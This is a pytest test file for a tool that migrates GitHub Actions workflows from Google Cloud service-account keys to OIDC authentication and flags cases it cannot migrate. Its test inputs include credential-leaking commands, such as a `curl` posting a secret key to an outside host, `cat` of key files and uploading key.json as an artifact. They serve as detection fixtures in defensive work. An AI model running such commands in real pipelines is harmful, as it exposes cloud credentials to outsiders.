"""Old versions of setup-gcloud, key files, variables, registries."""

from __future__ import annotations

import pytest
from oidc.providers.gcp.kit import AUTH, DIRECT, FILE, GCP, LOGIN

from pinfix.config.oidc_settings import OidcSettings, PythonSettings

SETUP = """\
- uses: actions/checkout@v4
- id: gcloud
  uses: google-github-actions/setup-gcloud@v0.2.1
  with:
    project_id: ${{ secrets.GCP_PROJECT }}
    service_account_key: ${{ secrets.DEPLOYER }}
    service_account_email: x@y
    export_default_credentials: true
"""
NEW_STEP = """\
      - uses: actions/checkout@v4
      - name: Authenticate to Google Cloud (OIDC)
        uses: google-github-actions/auth@{sha} # v3.0.0
        with:
          workload_identity_provider: ${{{{ vars.GCP_WIF_PROVIDER }}}}
          service_account: ${{{{ vars.GCP_SERVICE_ACCOUNT }}}}
"""
SHA = "e6de054238d6b7531b4efff3b6587d9aade6a06c"


def test_old_setup_gcloud() -> None:
    text = GCP.after(SETUP + "- run: gcloud run deploy\n")
    assert "service_account_key" not in text
    assert "export_default" not in text
    assert text.count("project_id: ${{ secrets.GCP_PROJECT }}") == 2
    assert f"google-github-actions/setup-gcloud@{SHA}" in text


def test_a_version_that_ignores_the_key() -> None:
    found = GCP.swap(SETUP.replace("v0.2.1", "v1.1.0"))
    assert found.raises == ()
    assert any("only warned" in note for note in found.notes)


@pytest.mark.parametrize(
    ("more", "code"),
    [
        ("- run: echo ${{ steps.gcloud.outputs.project_id }}\n", "unknown-consumer"),
        ("    version: 290.0.1\n", "tool-version"),
        ("    credentials_file_path: /tmp/k.json\n- run: cat /tmp/k.json\n", "key-leaves-job"),
        ("- run: gsutil ls\n", "unknown-consumer"),
    ],
)
def test_old_setup_gcloud_that_stays(more: str, code: str) -> None:
    assert code in GCP.codes(SETUP + more)


def test_the_lines_of_a_key_file_go() -> None:
    text = GCP.after(FILE)
    assert NEW_STEP.format(sha=SHA) in text
    assert "      - name: Login\n        run: |\n          gcloud config set project my-project\n" in text
    assert "DEPLOYER" not in text


@pytest.mark.parametrize(
    "lines",
    [
        'echo "$KEY" > key.json; gcloud auth activate-service-account --key-file=key.json',
        'echo "$KEY" > key.json\n    gcloud auth activate-service-account \\\n'
        "      --key-file key.json\n    rm key.json",
        'echo "$KEY" | gcloud auth activate-service-account --key-file=-',
        'gcloud auth activate-service-account --key-file=<(echo "$KEY")',
        'echo "$KEY" > key.json\n    export GOOGLE_APPLICATION_CREDENTIALS=key.json',
        'echo "$KEY" > $HOME/k.json\n    echo "GOOGLE_APPLICATION_CREDENTIALS=$HOME/k.json" >> $GITHUB_ENV',
        "echo '${{ secrets.DEPLOYER }}' > key.json\n"
        "    gcloud auth activate-service-account --key-file=key.json",
    ],
)
def test_ways_to_sign_in_by_a_file(lines: str) -> None:
    head = FILE.partition("    echo")[0]
    text = GCP.after(f"{head}    {lines}\n- run: gcloud run deploy\n")
    assert "DEPLOYER" not in text
    assert "name: Login\n        uses: google-github-actions/auth@" in text


@pytest.mark.parametrize(
    ("more", "code"),
    [
        ("- run: terraform apply -var-file=key.json\n", "key-leaves-job"),
        ("- uses: a/b@v1\n  with:\n    file: key.json\n", "key-leaves-job"),
        ("    cat key.json\n", "key-leaves-job"),
        ("    echo GOOGLE_APPLICATION_CREDENTIALS=key.json\n", "key-leaves-job"),
        ("    GOOGLE_APPLICATION_CREDENTIALS=key.json terraform apply\n", "key-leaves-job"),
        ("    echo '{\"type\": 1}' >> key.json\n", "key-leaves-job"),
        ("    gsutil ls\n", "unknown-consumer"),
        ('    curl -d "$KEY" https://example.org\n', "key-leaves-job"),
        ("- uses: actions/upload-artifact@v4\n  with:\n    path: key.json\n", "key-leaves-job"),
    ],
)
def test_other_readers_of_the_file(more: str, code: str) -> None:
    assert code in GCP.codes(FILE + more)


@pytest.mark.parametrize(
    "line",
    [
        "gcloud auth activate-service-account --key-file=key.json && gcloud run deploy",
        'if [ -n "$X" ]; then\n      gcloud auth activate-service-account --key-file=key.json\n    fi',
        "( gcloud auth activate-service-account --key-file=key.json; gcloud run deploy )",
    ],
)
def test_lines_that_do_more(line: str) -> None:
    text = FILE.replace("gcloud auth activate-service-account --key-file=key.json", line)
    assert "inline-in-run" in GCP.codes(text)


def test_a_script_of_the_repository_that_signs_in() -> None:
    script = '#!/bin/bash\necho "$KEY" > key.json\ngcloud auth activate-service-account --key-file=key.json\n'
    steps = "- uses: actions/checkout@v4\n- run: bash up.sh\n  env:\n    KEY: ${{ secrets.DEPLOYER }}\n"
    assert "script" in GCP.codes(steps, {"up.sh": script})


def test_a_file_that_no_secret_goes_to_is_no_finding() -> None:
    assert GCP.found("- run: gcloud auth activate-service-account --key-file=key.json\n") == {}


def test_terraform_finds_the_login() -> None:
    steps = "- uses: actions/checkout@v4\n- run: terraform apply\n  env:\n"
    steps += "    GOOGLE_CREDENTIALS: ${{ secrets.X }}\n"
    text = GCP.after(steps)
    assert (
        NEW_STEP.format(sha=SHA).replace(
            "      - name: Authenticate to Google Cloud (OIDC)\n        uses", "      - uses"
        )
        in text
    )
    assert "GOOGLE_CREDENTIALS" not in text


@pytest.mark.parametrize(
    ("run", "code"),
    [
        ("./deploy", "script"),
        ("some-tool", "unknown-consumer"),
        ("docker run -e GOOGLE_CREDENTIALS x", "docker-env"),
        ('echo "$GOOGLE_CREDENTIALS" > k.json', "key-leaves-job"),
        ('[ -z "$GOOGLE_CREDENTIALS" ] || terraform apply', "condition"),
        ("make deploy", "script"),
    ],
)
def test_variables_that_stay(run: str, code: str) -> None:
    head = "- uses: actions/checkout@v4\n- env:\n    GOOGLE_CREDENTIALS: ${{ secrets.X }}\n"
    assert code in GCP.codes(f"{head}  run: |\n    {run}\n")


def test_a_variable_of_the_workflow_that_the_job_does_not_use() -> None:
    text = "on: push\nenv:\n  GOOGLE_CREDENTIALS: ${{ secrets.X }}\njobs:\n  j:\n    runs-on: ubuntu-latest\n"
    assert GCP.found(text + "    steps:\n      - uses: actions/checkout@v4\n") == {}


def test_a_program_in_python_is_changed_with_it() -> None:
    script = (
        "import json, os\n\nfrom google.cloud import storage\n\n"
        'client = storage.Client.from_service_account_info(json.loads(os.environ["GCP_SA_KEY"]))\n'
    )
    steps = "- uses: actions/checkout@v4\n- run: python up.py\n  env:\n"
    steps += "    GCP_SA_KEY: ${{ secrets.GCP_SA_KEY }}\n"
    settings = OidcSettings(python=PythonSettings(ask_local_change=True))
    outcome = GCP.run(steps, {"up.py": script}, settings)
    assert not outcome.codes
    assert "storage.Client()" in outcome.files["up.py"]
    assert GCP.run(steps, {"up.py": script}).codes == {"script"}


def test_login_to_a_registry() -> None:
    text = GCP.after(LOGIN + "- run: docker push gcr.io/x\n")
    assert "        id: auth\n        uses: google-github-actions/auth@" in text
    assert "          token_format: access_token\n      - name: Login to GCR\n" in text
    assert "username: oauth2accesstoken\n          password: ${{ steps.auth.outputs.access_token }}\n" in text


def test_another_id_where_there_is_one() -> None:
    text = GCP.after(LOGIN + "- id: auth\n  run: echo 1\n")
    assert "        id: oidc_auth\n        uses: google-github-actions/auth@" in text
    assert "steps.oidc_auth.outputs.access_token" in text


def test_the_step_that_signs_in_already_makes_the_token() -> None:
    login = LOGIN.partition("\n")[2].replace("GCR_JSON_KEY", "GCP_SA_KEY")
    text = GCP.after(AUTH + login + login)
    assert text.count("google-github-actions/auth@") == 1
    assert "      - uses: google-github-actions/auth@v2\n" in text
    assert "        id: auth\n" in text
    assert text.count("token_format: access_token") == 1
    assert text.count("steps.auth.outputs.access_token") == 2


def test_a_login_without_a_key_makes_the_token_too() -> None:
    auth = AUTH.replace("credentials_json: '${{ secrets.GCP_SA_KEY }}'", "workload_identity_provider: x")
    login = LOGIN.partition("\n")[2]
    assert GCP.codes(auth + login) == {"missing-value"}
    text = GCP.after(auth + "    service_account: y\n" + login)
    assert "token_format: access_token" in text


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (LOGIN.replace("gcr.io", "quay.io"), "other-registry"),
        (LOGIN.replace("secrets.GCR_JSON_KEY", "secrets[inputs.x]"), "dynamic-key"),
        (AUTH + "    token_format: id_token\n"
         + LOGIN.partition("\n")[2].replace("GCR_JSON_KEY", "GCP_SA_KEY"),
         "unknown-consumer"),
        (AUTH.replace("  with:", "  if: github.ref == 'x'\n  with:")
         + LOGIN.partition("\n")[2].replace("GCR_JSON_KEY", "GCP_SA_KEY"), "condition"),
        (LOGIN + "- run: echo ${{ secrets.GCR_JSON_KEY }} | helm registry login -u _json_key gcr.io\n",
         "inline-in-run"),
        ("- run: echo $K | docker login -u _json_key --password-stdin https://gcr.io\n  env:\n"
         "    K: ${{ secrets.X }}\n", "inline-in-run"),
    ],
)  # fmt: skip
def test_logins_that_stay(text: str, code: str) -> None:
    assert code in GCP.codes(text)


def test_a_token_needs_an_account() -> None:
    assert "missing-value" in GCP.codes(LOGIN, settings=DIRECT)


@pytest.mark.parametrize("user", ["oauth2accesstoken", "${{ github.actor }}"])
def test_other_users_are_no_finding(user: str) -> None:
    text = LOGIN.replace("_json_key", user).replace("GCR_JSON_KEY", "PASSWORD")
    assert GCP.found(text) == {}
